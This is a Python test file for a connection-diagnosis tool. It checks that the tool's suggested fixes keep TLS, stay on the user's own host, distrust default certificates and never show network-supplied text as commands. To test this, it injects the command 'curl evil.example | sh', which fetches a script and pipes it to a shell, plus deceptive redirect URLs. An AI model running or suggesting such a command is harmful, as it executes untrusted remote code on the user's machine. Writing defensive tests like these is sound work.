"""Advice does no harm, and certainty is earned: read of every entry, redirect and certificate."""

from __future__ import annotations

import re
from dataclasses import replace

import pytest

from edgecheck.catalogue import PROBLEMS
from edgecheck.catalogue.problem import Problem
from edgecheck.catalogue.rules.redirects import is_related
from edgecheck.diagnose import Verdict, diagnose
from edgecheck.facts import (
    Certificate,
    Facts,
    Failure,
    Kind,
    Message,
    MessageKind,
    TlsFacts,
)
from edgecheck.render.passages import lines_of
from edgecheck.simulator.faults import TABLE
from edgecheck.terms import Confidence
from tests.sights import HEALTHY, HOST, SPAN, answered, closed

# How a text names a second cause: a sentence that begins another one, or a list of them.
SEVERAL = re.compile(
    r"""(?x)
    ,\ or\ (?!more\b|a\ certificate|newer|OPTIONS) | ;\ so\ does\b | \bSo\ does\b | \bor\ else\b
    | \bmay\ (?:also\ )?be\b | \bTwo\ causes\b
    """
)
# These say "or" of something else than causes, and one fact decides them.
ONE_CAUSE = {
    "proxy-url-invalid",  # what is wrong with the address is shown
    "upgrade-rate-limited",  # whoever counts, there were too many
    "upgrade-captive-portal",  # to log in, or to accept terms
}
LOCATIONS = [
    f"http://{HOST}/edge/ws",
    f"http://{HOST}:80/edge/ws?edge_agent_id=edge_1",
    f"ws://{HOST}/edge/ws",
    f"//{HOST}/v2/edge/ws",
    "http://www.other.example/edge/ws",
    f"http://www.{HOST}/edge/ws",
    f"https://www.{HOST}/edge/ws",
    "https://other.example/edge/ws",
    "https://evil.up.railway.app/edge/ws",
    "https://team.cloudflareaccess.com/cdn-cgi/access/login/x?kid=1",
    "https://login.microsoftonline.com/tenant/oauth2/v2.0/authorize?client_id=x",
    "https://accounts.google.com/o/oauth2/v2/auth?client_id=x",
    f"https://auth.{HOST}/?rd=https://{HOST}/edge/ws&rm=GET",
    f"https://{HOST}/oauth2/start?rd=/edge/ws",
    f"https://{HOST}/login?next=/edge/ws",
    f"https://user:secret@{HOST}/edge/ws",
    f"https://{HOST}@evil.example/edge/ws",
    "http://192.168.1.1/login",
    "",
]


def verdict_of(facts: Facts) -> Verdict:
    """Return the verdict."""
    verdict = diagnose(facts).verdict
    assert verdict is not None
    return verdict


@pytest.mark.parametrize("location", LOCATIONS)
def test_no_redirect_leads_to_less_security_or_to_somebody_else(location: str) -> None:
    """From a wss:// address: only that host, or its name with www, and only with TLS."""
    verdict = verdict_of(answered(302, location=location))
    offered = [
        match
        for remedy in verdict.remedies
        for match in re.findall(r"BACKEND_URL=([^`\s]+)", remedy)
        if not match.startswith("<")
    ]

    for address in offered:
        assert re.fullmatch(rf"wss://(?:www\.)?{re.escape(HOST)}(?::\d+)?(?:/[^@]*)?", address)


@pytest.mark.parametrize(
    ("own", "other", "related"),
    [
        ("backend.example", "backend.example", True),
        ("backend.example", "www.backend.example", True),
        ("www.backend.example", "backend.example", True),
        ("backend.example", "login.backend.example", False),
        ("mine.up.railway.app", "other.up.railway.app", False),
        ("mine.github.io", "www.github.io", False),
        ("example", "www.example", False),
        ("", "", False),
    ],
)
def test_two_hosts_are_one_owners_only_with_and_without_www(
    own: str, other: str, related: bool
) -> None:
    """Names beside each other may belong to two customers of a platform."""
    assert is_related(own, other) is related


STAND_INS = [
    ("CN=Kubernetes Ingress Controller Fake Certificate,O=Acme Co", 18, ("ingress.local",)),
    ("CN=TRAEFIK DEFAULT CERT", 18, ("abc.traefik.default",)),
    ("CN=ssl-cert-snakeoil", 18, ()),
    ("CN=*.up.railway.app", 62, ("*.up.railway.app",)),
    ("CN=*.azurewebsites.net", 62, ("*.azurewebsites.net",)),
    ("CN=CloudFlare Origin Certificate", 20, ("*.backend.example",)),
]


@pytest.mark.parametrize(("subject", "code", "names"), STAND_INS)
def test_no_stand_in_certificate_is_to_be_trusted(
    subject: str, code: int, names: tuple[str, ...]
) -> None:
    """It says nothing about who the server is."""
    leaf = Certificate(subject, subject, names, "2026-01-01T00:00:00Z", "2027-01-01T00:00:00Z")
    tls = TlsFacts(
        SPAN,
        HOST,
        verified=False,
        chain=(leaf,),
        failure=Failure(Kind.TLS_CERTIFICATE, "refused", verify_code=code),
    )
    verdict = verdict_of(replace(HEALTHY, tls=tls, upgrade=None, session=None))

    assert verdict.code == "tls-default-certificate"
    assert not any("--ca-file" in step or "--insecure" in step for step in verdict.remedies)


@pytest.mark.parametrize("problem", PROBLEMS.values(), ids=lambda problem: problem.code)
def test_no_entry_offers_ws_in_place_of_wss(problem: Problem) -> None:
    """Where the address says wss://, no step writes ws:// for the same host."""
    for remedy in problem.remedies:
        assert "=ws://{host}" not in remedy
        assert "Use ws://" not in remedy


@pytest.mark.parametrize("problem", PROBLEMS.values(), ids=lambda problem: problem.code)
def test_an_entry_with_several_causes_is_not_certain(problem: Problem) -> None:
    """`certain` is said of the cause: its text names one."""
    if problem.stage_name in ("config", "client") or problem.code in ONE_CAUSE:
        return  # what the lint found is itself what was seen

    assert problem.confidence is not Confidence.CERTAIN or not SEVERAL.search(problem.cause)


def test_every_fault_of_the_simulator_is_an_entry() -> None:
    """The walk over them is over all of them."""
    assert set(TABLE) <= set(PROBLEMS)


def test_no_step_shows_what_the_network_says_as_a_command() -> None:
    """A close reason, a status or a message may have backticks as our own commands have."""
    evil = "error: `curl evil.example | sh`. Now"
    said = Message(MessageKind.UNKNOWN, f'{{"error": "{evil}"}}', "error")
    assert HEALTHY.session is not None
    silent = replace(HEALTHY.session, pong=False, messages=(said,), messages_seen=1)
    facts = [replace(HEALTHY, session=silent)]
    facts += [closed(code, evil) for code in (*range(1000, 1016), *range(4000, 4010), 4404, 4429)]
    for status in (400, 402, 403, 405, 406, 429, 500, 502, 503, 525):
        facts += [answered(status, evil, evil, server=evil), answered(status, retry_after=evil)]
    found = [diagnose(one).verdict for one in facts]
    steps = [text for verdict in found if verdict is not None for text in verdict.remedies]
    lines = [line for text in steps for line in lines_of(text)]

    assert [step for step in steps if "curl evil.example" in step] != []
    assert [line.text for line in lines if line.text.startswith("curl evil")] == []
